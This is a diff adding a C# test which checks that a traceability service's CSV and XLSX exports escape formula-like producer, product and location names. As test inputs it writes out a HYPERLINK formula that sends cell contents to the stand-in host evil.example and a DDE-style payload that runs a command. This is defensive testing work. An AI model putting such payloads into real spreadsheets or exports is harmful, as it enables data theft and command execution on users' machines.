@@ -105,6 +105,31 @@ public sealed class TraceExportTests(AuthorityApp app) : IClassFixture<Authority
     }
 
     [Fact]
+    public async Task Formula_like_names_are_escaped_in_the_csv_and_in_the_xlsx()
+    {
+        // Producer and product names are the sender's text; a spreadsheet runs text starting with = + - @ (or tab, CR).
+        const string link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")";
+        var farm = await app.NewProducerAsync("@SUM(1+1)*cmd|' /C calc'!A0");
+        var product = await farm.RegisterProductAsync(link);
+        await farm.RegisterLotAsync(product, "F-01");
+        await farm.RegisterLocationAsync("V-01", "-2+3 vườn", "Tuyên Quang");
+        await farm.CaptureAsync(Object(product, "F-01", "commissioning", "2026-11-01T08:00:00+07:00", 10, "KGM",
+            $"urn:x-traceability:loc:{farm.Id}:V-01", "ADD"));
+
+        var csv = await app.Admin().GetByteArrayAsync($"/api/v1/trace/{product}/F-01?format=csv");
+        var xlsx = await app.Admin().GetByteArrayAsync($"/api/v1/trace/{product}/F-01?format=xlsx");
+        foreach (var (type, bytes) in new[] { (ExcelType.CSV, csv), (ExcelType.XLSX, xlsx) })
+        {
+            var rows = new MemoryStream(bytes).Query(useHeaderRow: true, excelType: type).Cast<IDictionary<string, object?>>().ToList();
+            var row = Assert.Single(rows);
+            Assert.Equal("'" + link, row["product_name"]);
+            Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", row["producer"]);
+            Assert.Equal("'-2+3 vườn", row["location_name"]);
+            Assert.All(row.Values.OfType<string>(), v => Assert.False(v.Length > 0 && "=+-@\t\r".Contains(v[0]), $"{type}: '{v}' starts a formula"));
+        }
+    }
+
+    [Fact]
     public async Task Only_admins_export_and_bad_or_unknown_lots_are_problems()
     {
         var (inspector, _) = await app.NewInspectorAsync();
